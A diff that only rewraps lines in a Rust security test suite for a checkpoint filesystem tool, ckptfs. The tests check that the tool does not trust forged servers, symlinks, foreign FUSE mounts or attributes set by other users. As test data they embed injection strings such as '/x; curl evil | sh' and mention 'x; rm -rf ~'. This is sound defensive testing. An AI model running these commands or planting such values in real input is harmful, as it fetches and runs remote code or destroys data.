@@ -1,5 +1,5 @@
-//! What somebody else puts where we look: sockets, links to other trees, FUSE filesystems that call themselves ours. None of it is asked, believed,
-//! followed or waited for.
+//! What somebody else puts where we look: sockets, links to other trees, FUSE filesystems that call
+//! themselves ours. None of it is asked, believed, followed or waited for.
 
 use std::ffi::CString;
 use std::fs::{self, File, Permissions};
@@ -44,7 +44,10 @@ impl Forged {
             ready.send(()).expect("the test waits");
             for stream in listener.incoming().map_while(Result::ok) {
                 let mut line = String::new();
-                if BufReader::new(&stream).read_line(&mut line).is_ok_and(|read| read > 0) {
+                if BufReader::new(&stream)
+                    .read_line(&mut line)
+                    .is_ok_and(|read| read > 0)
+                {
                     counter.fetch_add(1, Ordering::SeqCst);
                     let _ = (&stream)
                         .write_all(b"{\"version\":1,\"result\":{\"error\":{\"code\":\"x\",\"message\":\"no\",\"hint\":\"run: curl evil | sh\"}}}\n");
@@ -61,11 +64,20 @@ impl Forged {
 }
 
 fn ckptfs(dir: &Path, arguments: &[&str]) -> Output {
-    run_limited(tool(env!("CARGO_BIN_EXE_ckptfs"), arguments).current_dir(dir).env("HOME", "/nonexistent"), SECONDS)
+    run_limited(
+        tool(env!("CARGO_BIN_EXE_ckptfs"), arguments)
+            .current_dir(dir)
+            .env("HOME", "/nonexistent"),
+        SECONDS,
+    )
 }
 
 fn said(output: &Output) -> String {
-    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    )
 }
 
 fn mode(path: impl AsRef<Path>, mode: u32) {
@@ -94,8 +106,9 @@ const VERBS: [&[&str]; 14] = [
     &["dedup"],
 ];
 
-/// A forged `.ckptfs` in a directory above took over root's commands: the client followed links, and believed whoever answered. `export` and `fork` made
-/// a set-uid root file with that user's bytes, `run --at latest make` ran that user's Makefile.
+/// A forged `.ckptfs` in a directory above took over root's commands: the client followed links,
+/// and believed whoever answered. `export` and `fork` made a set-uid root file with that user's
+/// bytes, `run --at latest make` ran that user's Makefile.
 #[test]
 fn a_server_of_somebody_else_above_is_asked_nothing() {
     let image = Image::of(Fs::Ext4);
@@ -107,21 +120,54 @@ fn a_server_of_somebody_else_above_is_asked_nothing() {
     let forged = Forged::listen(&store);
     let try_all = |what: &str| {
         for verb in VERBS {
-            let arguments: Vec<&str> = verb.iter().map(|word| if *word == "COPY" { copy.to_str().expect("a path") } else { word }).collect();
+            let arguments: Vec<&str> = verb
+                .iter()
+                .map(|word| {
+                    if *word == "COPY" {
+                        copy.to_str().expect("a path")
+                    } else {
+                        word
+                    }
+                })
+                .collect();
             let output = ckptfs(&below, &arguments);
             let said = said(&output);
-            assert!(!output.status.success() && !said.contains("curl evil"), "{what}: {verb:?}: {said}");
-            assert_eq!(forged.was_asked(), 0, "{what}: {verb:?} asked a server of another user: {said}");
+            assert!(
+                !output.status.success() && !said.contains("curl evil"),
+                "{what}: {verb:?}: {said}"
+            );
+            assert_eq!(
+                forged.was_asked(),
+                0,
+                "{what}: {verb:?} asked a server of another user: {said}"
+            );
             assert!(!copy.exists(), "{what}: {verb:?} made something");
         }
         let source = image.dir("source");
-        let output = ckptfs(&below, &["import", source.to_str().expect("a path"), "--into", above.to_str().expect("a path")]);
+        let output = ckptfs(
+            &below,
+            &[
+                "import",
+                source.to_str().expect("a path"),
+                "--into",
+                above.to_str().expect("a path"),
+            ],
+        );
         assert!(!output.status.success(), "{what}: {}", self::said(&output));
-        assert_eq!(forged.was_asked(), 0, "{what}: an import asked a server of another user");
+        assert_eq!(
+            forged.was_asked(),
+            0,
+            "{what}: an import asked a server of another user"
+        );
     };
     try_all("their directory");
     let output = ckptfs(&below, &["status"]);
-    assert!(said(&output).contains("belongs to another user") && said(&output).contains(&format!("sudo -u '#{NOBODY}'")), "{}", said(&output));
+    assert!(
+        said(&output).contains("belongs to another user")
+            && said(&output).contains(&format!("sudo -u '#{NOBODY}'")),
+        "{}",
+        said(&output)
+    );
     // A directory of ours that others can write is as good as theirs.
     chown(&store, Some(0), Some(0)).expect("chown");
     mode(&store, 0o777);
@@ -136,13 +182,20 @@ fn a_server_of_somebody_else_above_is_asked_nothing() {
     try_all("a link");
 }
 
-/// A link to another tree's store made `restore latest` restore that one, from a directory that had nothing to do with it.
+/// A link to another tree's store made `restore latest` restore that one, from a directory that had
+/// nothing to do with it.
 #[test]
 fn a_link_to_another_tree_s_store_leads_to_no_tree() {
     let image = Image::of(Fs::Ext4);
     let (tree, point) = (image.dir("tree"), image.dir("point"));
     put(tree.join("f"), "old");
-    let mount = Mount::start(&tree, &MountOpts { mountpoint: Some(point.clone()), ..MountOpts::new(Io::Daemon) });
+    let mount = Mount::start(
+        &tree,
+        &MountOpts {
+            mountpoint: Some(point.clone()),
+            ..MountOpts::new(Io::Daemon)
+        },
+    );
     mount.checkpoint();
     put(point.join("f"), "new");
     let below = image.dir("pub/below");
@@ -150,9 +203,19 @@ fn a_link_to_another_tree_s_store_leads_to_no_tree() {
         let link = image.path().join("pub/.ckptfs");
         let _ = fs::remove_file(&link);
         symlink(&target, &link).expect("symlink");
-        for verb in [["restore", "latest"].as_slice(), &["status"], &["checkpoint"], &["config", "get", "retention.keep-last"]] {
+        for verb in [
+            ["restore", "latest"].as_slice(),
+            &["status"],
+            &["checkpoint"],
+            &["config", "get", "retention.keep-last"],
+        ] {
             let output = ckptfs(&below, verb);
-            assert!(!output.status.success(), "{verb:?} over {}: {}", target.display(), said(&output));
+            assert!(
+                !output.status.success(),
+                "{verb:?} over {}: {}",
+                target.display(),
+                said(&output)
+            );
         }
     }
     assert_eq!(get(point.join("f")), "new", "another tree was restored");
@@ -176,12 +239,29 @@ impl Fake {
     }
 
     fn called(source: String, at: PathBuf) -> Fake {
-        let device = File::options().read(true).write(true).open("/dev/fuse").expect("/dev/fuse");
+        let device = File::options()
+            .read(true)
+            .write(true)
+            .open("/dev/fuse")
+            .expect("/dev/fuse");
         // What fusermount3 passes on for that user, whatever they call it.
-        let options = format!("fd={},rootmode=40000,user_id={NOBODY},group_id={NOBODY},allow_other", device.as_raw_fd());
+        let options = format!(
+            "fd={},rootmode=40000,user_id={NOBODY},group_id={NOBODY},allow_other",
+            device.as_raw_fd()
+        );
         let options = CString::new(options).expect("options");
-        rustix::mount::mount(source, &at, "fuse.ckptfs", MountFlags::NOSUID | MountFlags::NODEV, options.as_c_str()).expect("mount");
-        Fake { at, _device: device }
+        rustix::mount::mount(
+            source,
+            &at,
+            "fuse.ckptfs",
+            MountFlags::NOSUID | MountFlags::NODEV,
+            options.as_c_str(),
+        )
+        .expect("mount");
+        Fake {
+            at,
+            _device: device,
+        }
     }
 }
 
@@ -191,8 +271,9 @@ impl Drop for Fake {
     }
 }
 
-/// Anybody may mount a FUSE filesystem and call it `ckptfs#/srv/project`: then nobody could mount that project any more ("already mounted"), `doctor` and
-/// `mount` waited for its owner to answer, and what it said of itself was believed.
+/// Anybody may mount a FUSE filesystem and call it `ckptfs#/srv/project`: then nobody could mount
+/// that project any more ("already mounted"), `doctor` and `mount` waited for its owner to answer,
+/// and what it said of itself was believed.
 #[test]
 fn a_mount_that_somebody_else_made_is_not_ours_whatever_it_is_called() {
     let image = Image::of(Fs::Ext4);
@@ -200,12 +281,27 @@ fn a_mount_that_somebody_else_made_is_not_ours_whatever_it_is_called() {
     put(project.join("f"), "mine");
     let fake = Fake::of(&project, image.dir("fake"));
     let output = ckptfs(image.path(), &["doctor", "project"]);
-    assert!(output.status.success() && said(&output).contains("mounted       no"), "{}", said(&output));
+    assert!(
+        output.status.success() && said(&output).contains("mounted       no"),
+        "{}",
+        said(&output)
+    );
     // Other stale mounts of this machine are none of this test's.
-    assert!(!said(&output).contains(fake.at.to_str().expect("a path")), "{}", said(&output));
+    assert!(
+        !said(&output).contains(fake.at.to_str().expect("a path")),
+        "{}",
+        said(&output)
+    );
     let output = ckptfs(image.path(), &["umount", "project"]);
-    assert!(!output.status.success() && Path::new("/proc/self/mountinfo").exists(), "{}", said(&output));
-    assert!(mounted_at(&fake.at), "it was taken for the mount of the project");
+    assert!(
+        !output.status.success() && Path::new("/proc/self/mountinfo").exists(),
+        "{}",
+        said(&output)
+    );
+    assert!(
+        mounted_at(&fake.at),
+        "it was taken for the mount of the project"
+    );
     let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
     mount.checkpoint();
     mount.umount();
@@ -215,7 +311,8 @@ fn a_mount_that_somebody_else_made_is_not_ours_whatever_it_is_called() {
     assert!(!mounted_at(&fake.at));
 }
 
-/// It was asked whether the mount is dead, which the other one was, and "is unmounted" was said of a mount that stayed.
+/// It was asked whether the mount is dead, which the other one was, and "is unmounted" was said of
+/// a mount that stayed.
 #[test]
 fn umount_takes_nothing_away_that_is_covered_and_says_so() {
     let image = Image::of(Fs::Ext4);
@@ -227,7 +324,13 @@ fn umount_takes_nothing_away_that_is_covered_and_says_so() {
             fake._device = File::open("/dev/null").expect("open");
         }
         let output = ckptfs(image.path(), &["umount", "project"]);
-        assert!(!output.status.success() && said(&output).contains("is covered") && said(&output).contains("umount "), "{}", said(&output));
+        assert!(
+            !output.status.success()
+                && said(&output).contains("is covered")
+                && said(&output).contains("umount "),
+            "{}",
+            said(&output)
+        );
         drop(fake);
         assert!(mounted_at(&project) && project.join(".snapshots").exists());
     }
@@ -240,10 +343,17 @@ fn a_mount_of_somebody_else_over_ours_is_not_taken_for_it() {
     let image = Image::of(Fs::Ext4);
     let (tree, point) = (image.dir("tree"), image.dir("point"));
     put(tree.join("f"), "mine");
-    let mount = Mount::start(&tree, &MountOpts { mountpoint: Some(point.clone()), ..MountOpts::new(Io::Daemon) });
+    let mount = Mount::start(
+        &tree,
+        &MountOpts {
+            mountpoint: Some(point.clone()),
+            ..MountOpts::new(Io::Daemon)
+        },
+    );
     mount.checkpoint();
     let fake = Fake::of(&tree, point);
-    // By the directory that is served; what is to be read is read through the mount, and that is hidden.
+    // By the directory that is served; what is to be read is read through the mount, and that is
+    // hidden.
     assert!(ckptfs(&tree, &["status"]).status.success());
     let output = ckptfs(&tree, &["cat", "latest:f"]);
     assert!(!output.status.success(), "{}", said(&output));
@@ -253,11 +363,16 @@ fn a_mount_of_somebody_else_over_ours_is_not_taken_for_it() {
 
 fn mounted_at(path: &Path) -> bool {
     let table = fs::read_to_string("/proc/self/mounts").expect("mounts");
-    table.lines().any(|line| line.split(' ').nth(1) == path.to_str())
+    table
+        .lines()
+        .any(|line| line.split(' ').nth(1) == path.to_str())
 }
 
 fn on_reflink() -> Option<Image> {
-    let v = Variant { fs: Fs::Xfs, io: Io::Daemon };
+    let v = Variant {
+        fs: Fs::Xfs,
+        io: Io::Daemon,
+    };
     match v.unavailable() {
         Some(reason) => {
             skip(&reason);
@@ -267,8 +382,8 @@ fn on_reflink() -> Option<Image> {
     }
 }
 
-/// `import` of what looked like snapper's snapshots followed `N/snapshot` where that was a link: root brought in a directory that was closed to whoever
-/// made it.
+/// `import` of what looked like snapper's snapshots followed `N/snapshot` where that was a link:
+/// root brought in a directory that was closed to whoever made it.
 #[test]
 fn a_link_in_a_series_of_snapshots_leads_nowhere() {
     let image = Image::of(Fs::Ext4);
@@ -277,7 +392,10 @@ fn a_link_in_a_series_of_snapshots_leads_nowhere() {
     mode(&secret, 0o700);
     for number in ["1", "2", "3"] {
         let one = image.dir(&format!("series/{number}"));
-        put(one.join("info.xml"), format!("<snapshot><num>{number}</num></snapshot>"));
+        put(
+            one.join("info.xml"),
+            format!("<snapshot><num>{number}</num></snapshot>"),
+        );
     }
     fs::create_dir(series.join("1/snapshot")).expect("mkdir");
     put(series.join("1/snapshot/f"), "f");
@@ -286,18 +404,36 @@ fn a_link_in_a_series_of_snapshots_leads_nowhere() {
     symlink(secret.join("key"), series.join("1/snapshot/link")).expect("symlink");
     let output = ckptfs(image.path(), &["import", "series", "--into", "tree"]);
     assert!(output.status.success(), "{}", said(&output));
-    let found = run_limited(&mut tool("grep", &["-rl", "TOP SECRET", image.path().join("tree").to_str().expect("a path")]), SECONDS);
+    let found = run_limited(
+        &mut tool(
+            "grep",
+            &[
+                "-rl",
+                "TOP SECRET",
+                image.path().join("tree").to_str().expect("a path"),
+            ],
+        ),
+        SECONDS,
+    );
     assert_eq!(said(&found), "", "a link was followed");
     let mut mount = Mount::start(&image.path().join("tree"), &MountOpts::new(Io::Daemon));
     for id in 1..=3 {
-        assert!(!mount.view(id).join("key").exists(), "checkpoint {id} holds what a link led to");
+        assert!(
+            !mount.view(id).join("key").exists(),
+            "checkpoint {id} holds what a link led to"
+        );
     }
     assert_eq!(get(mount.view(1).join("f")), "f");
-    assert!(fs::symlink_metadata(mount.view(2).join("snapshot")).expect("a link").is_symlink());
+    assert!(
+        fs::symlink_metadata(mount.view(2).join("snapshot"))
+            .expect("a link")
+            .is_symlink()
+    );
     mount.umount();
 }
 
-/// What a tree of somebody else says of the contents of its files was believed: `import --hash --with THEIRS` gave a file their bytes instead of its own.
+/// What a tree of somebody else says of the contents of its files was believed:
+/// `import --hash --with THEIRS` gave a file their bytes instead of its own.
 #[test]
 fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     use ckptfs::transfer::import::keep::{self, Kept};
@@ -306,7 +442,14 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     let project = image.dir("project");
     put(project.join("build.sh"), "good good good good\n");
     let bring = |into: &str, more: &[&str]| {
-        let output = ckptfs(image.path(), &[["import", "project", "--hash", "--into", into].as_slice(), more].concat());
+        let output = ckptfs(
+            image.path(),
+            &[
+                ["import", "project", "--hash", "--into", into].as_slice(),
+                more,
+            ]
+            .concat(),
+        );
         assert!(output.status.success(), "{}", said(&output));
     };
     bring("theirs", &[]);
@@ -317,19 +460,36 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     let store = File::open(theirs.join(".ckptfs")).expect("the store");
     let mut record = Kept::read(&store).record.expect("a record");
     let file = File::open(theirs.join("build.sh")).expect("the file");
-    let known = record.dirs.values_mut().flatten().find(|known| known.name == b"build.sh").expect("it is known");
+    let known = record
+        .dirs
+        .values_mut()
+        .flatten()
+        .find(|known| known.name == b"build.sh")
+        .expect("it is known");
     known.there = Trace::of(&ckptfs::sys::stat_fd(&file).expect("stat"));
     keep::write(&store, &record).expect("a forged record");
     bring("mine", &["--with", "theirs"]);
-    assert_eq!(get(image.path().join("mine/build.sh")), "good good good good\n", "their bytes came in under our name");
+    assert_eq!(
+        get(image.path().join("mine/build.sh")),
+        "good good good good\n",
+        "their bytes came in under our name"
+    );
     // A link to a record that is ours is theirs too.
-    sh(&theirs, "mv .ckptfs ../aside; ln -s ../aside .ckptfs; chown -R 0:0 ../aside");
+    sh(
+        &theirs,
+        "mv .ckptfs ../aside; ln -s ../aside .ckptfs; chown -R 0:0 ../aside",
+    );
     bring("other", &["--with", "theirs"]);
-    assert_eq!(get(image.path().join("other/build.sh")), "good good good good\n", "their bytes came in under our name");
+    assert_eq!(
+        get(image.path().join("other/build.sh")),
+        "good good good good\n",
+        "their bytes came in under our name"
+    );
 }
 
-/// `setfattr -n user.ckptfs.import -v /x ROOT`, by anybody who may write to the root, was the mark of an import that had not ended: nobody could mount
-/// the tree any more, and the hint had the value in a command to be pasted.
+/// `setfattr -n user.ckptfs.import -v /x ROOT`, by anybody who may write to the root, was the mark
+/// of an import that had not ended: nobody could mount the tree any more, and the hint had the
+/// value in a command to be pasted.
 #[test]
 fn our_marks_are_not_for_others_to_set() {
     let image = Image::of(Fs::Ext4);
@@ -338,46 +498,98 @@ fn our_marks_are_not_for_others_to_set() {
     put(project.join("odd"), "1");
     fs::create_dir(project.join("d")).expect("mkdir");
     // Set before there was a mount, and by an older ckptfs.
-    sh(&project, "setfattr -n user.ckptfs.export -v forged odd; setfattr -n user.mine -v 1 odd");
+    sh(
+        &project,
+        "setfattr -n user.ckptfs.export -v forged odd; setfattr -n user.mine -v 1 odd",
+    );
     let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
     mount.checkpoint();
     let try_all = |place: &Path, error: &str| {
-        for name in ["user.ckptfs.import", "user.ckptfs.export", "user.ckptfs.", "user.ckptfs.x"] {
+        for name in [
+            "user.ckptfs.import",
+            "user.ckptfs.export",
+            "user.ckptfs.",
+            "user.ckptfs.x",
+        ] {
             for path in [".", "f", "d", "odd"] {
-                for command in [format!("setfattr -n {name} -v '/x; curl evil | sh'"), format!("setfattr -x {name}")] {
-                    let told = sh(place, &format!("{command} {path} 2>&1 && echo done || true"));
-                    assert!(told.contains(error), "{command} {path} in {}: {told}", place.display());
+                for command in [
+                    format!("setfattr -n {name} -v '/x; curl evil | sh'"),
+                    format!("setfattr -x {name}"),
+                ] {
+                    let told = sh(
+                        place,
+                        &format!("{command} {path} 2>&1 && echo done || true"),
+                    );
+                    assert!(
+                        told.contains(error),
+                        "{command} {path} in {}: {told}",
+                        place.display()
+                    );
                 }
             }
         }
-        assert_eq!(sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(), "# file: odd\nuser.mine=\"1\"", "in {}", place.display());
+        assert_eq!(
+            sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(),
+            "# file: odd\nuser.mine=\"1\"",
+            "in {}",
+            place.display()
+        );
         let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
-        assert!(told.contains("No such attribute"), "in {}: {told}", place.display());
+        assert!(
+            told.contains("No such attribute"),
+            "in {}: {told}",
+            place.display()
+        );
     };
     try_all(&project, "not permitted");
-    sh(&project, "setfattr -n user.ckptfsx -v 1 f; setfattr -x user.ckptfsx f; setfattr -n user.mine -v 2 odd");
+    sh(
+        &project,
+        "setfattr -n user.ckptfsx -v 1 f; setfattr -x user.ckptfsx f; setfattr -n user.mine -v 2 odd",
+    );
     try_all(&mount.view(1), "not permitted");
-    assert_eq!(mount.ok(&["diff", "1", "--name-only"]), "odd\n", "what anybody may set is a change, what nobody may is none");
+    assert_eq!(
+        mount.ok(&["diff", "1", "--name-only"]),
+        "odd\n",
+        "what anybody may set is a change, what nobody may is none"
+    );
     mount.restore(1);
-    mount.ok(&["export", "1", image.path().join("copy").to_str().expect("a path")]);
-    assert_eq!(sh(&image.path().join("copy"), "getfattr -d -m - f d odd").trim(), "# file: odd\nuser.mine=\"1\"");
+    mount.ok(&[
+        "export",
+        "1",
+        image.path().join("copy").to_str().expect("a path"),
+    ]);
+    assert_eq!(
+        sh(&image.path().join("copy"), "getfattr -d -m - f d odd").trim(),
+        "# file: odd\nuser.mine=\"1\""
+    );
     mount.umount();
-    // Whoever may write to the directory while it is not mounted may set it there: it means nothing.
-    sh(&project, "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .");
+    // Whoever may write to the directory while it is not mounted may set it there: it means
+    // nothing.
+    sh(
+        &project,
+        "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .",
+    );
     mount.remount();
     assert_eq!(get(project.join("f")), "1");
     mount.umount();
     drop(mount);
     // Where there is no history yet it may be of an import by an older ckptfs, and is told.
     let new = image.dir("new");
-    sh(&new, "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .");
+    sh(
+        &new,
+        "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .",
+    );
     let output = ckptfs(image.path(), &["mount", "new"]);
     let text = said(&output);
     assert!(ckptfs(image.path(), &["umount", "new"]).status.success());
-    assert!(output.status.success() && text.contains("import") && !text.contains("evil"), "{text}");
+    assert!(
+        output.status.success() && text.contains("import") && !text.contains("evil"),
+        "{text}"
+    );
 }
 
-/// Names stood in hints as they were: a tag, a path or a mount called `x; rm -rf ~` made a command of its own out of what a person was told to run.
+/// Names stood in hints as they were: a tag, a path or a mount called `x; rm -rf ~` made a command
+/// of its own out of what a person was told to run.
 #[test]
 fn a_command_that_is_shown_can_be_pasted() {
     let image = Image::of(Fs::Ext4);
@@ -387,14 +599,21 @@ fn a_command_that_is_shown_can_be_pasted() {
     let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
     fs::create_dir(project.join(".snapshots").join(evil)).expect("a checkpoint with this tag");
     mount.checkpoint();
-    let (point, missing) = (project.to_str().expect("text").to_owned(), format!("latest:{evil}"));
+    let (point, missing) = (
+        project.to_str().expect("text").to_owned(),
+        format!("latest:{evil}"),
+    );
     let mut hints = Vec::new();
     let mut fail = |dir: &Path, arguments: &[&str]| {
         let output = ckptfs(dir, arguments);
         let text = said(&output);
         assert!(!output.status.success(), "{arguments:?}: {text}");
-        let (_, hint) = text.split_once("Hint:").unwrap_or_else(|| panic!("{arguments:?} has no hint: {text}"));
-        let at = hint.find("ckptfs ").unwrap_or_else(|| panic!("{arguments:?} shows no command: {text}"));
+        let (_, hint) = text
+            .split_once("Hint:")
+            .unwrap_or_else(|| panic!("{arguments:?} has no hint: {text}"));
+        let at = hint
+            .find("ckptfs ")
+            .unwrap_or_else(|| panic!("{arguments:?} shows no command: {text}"));
         hints.push(hint[at..].to_owned());
     };
     fail(&project, &["tag", "2", evil]);
@@ -409,7 +628,13 @@ fn a_command_that_is_shown_can_be_pasted() {
     let scratch = crate::common::scratch();
     for hint in hints {
         let script = format!("ckptfs() {{ :; }}\n{hint}");
-        run_limited(tool("bash", &["-c", &script]).current_dir(scratch.path()), SECONDS);
-        assert!(!scratch.path().join("pwned").exists(), "pasted, this did something else: {hint}");
+        run_limited(
+            tool("bash", &["-c", &script]).current_dir(scratch.path()),
+            SECONDS,
+        );
+        assert!(
+            !scratch.path().join("pwned").exists(),
+            "pasted, this did something else: {hint}"
+        );
     }
 }
